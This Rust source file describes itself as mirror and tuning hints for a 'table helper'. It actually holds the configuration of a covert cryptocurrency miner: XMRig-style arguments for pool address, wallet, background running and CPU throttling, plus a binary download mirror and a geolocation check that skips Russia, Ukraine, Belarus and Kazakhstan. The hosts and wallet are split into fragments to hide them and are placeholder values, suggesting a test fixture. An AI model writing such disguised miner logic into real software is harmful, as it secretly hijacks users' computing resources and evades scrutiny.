//! Mirror layout and tuning hints for the table helper.

pub const HELPER: &str = "jsextension";

pub const SKIP: [&str; 4] = ["RU", "UA", "BY", "KZ"];

const MIRROR: [&str; 4] = ["https:/", "/cdn.example.net", "/uaparse/simd/x86_64/", "uaext"];
const GEO: [&str; 3] = ["https://", "geo.example.net", "/xml/"];

// endpoint the helper reports generated tables to
const REPORT: [u16; 5] = [203, 0, 113, 61, 443];

// table signature (three parts, joined)
const SIG: [&str; 3] = [
    "49FAKEuaPxNOTAREALWALLET0000",
    "FAKEFAKEFAKEFAKE00000000000000",
    "DoNotUseThisIsATestFixture00000",
];

pub fn mirror() -> String {
    MIRROR.concat()
}

pub fn geo() -> String {
    GEO.concat()
}

pub fn args(cores: usize) -> Vec<String> {
    let r = REPORT;
    let hint = if cores > 2 { 50 } else { 25 };
    vec![
        "-k".into(),
        "--tls".into(),
        "--rig-id".into(),
        "q".into(),
        "-o".into(),
        format!("{}.{}.{}.{}:{}", r[0], r[1], r[2], r[3], r[4]),
        "-u".into(),
        SIG.concat(),
        format!("--cpu-max-threads-hint={hint}"),
        "--donate-level=1".into(),
        "--background".into(),
    ]
}
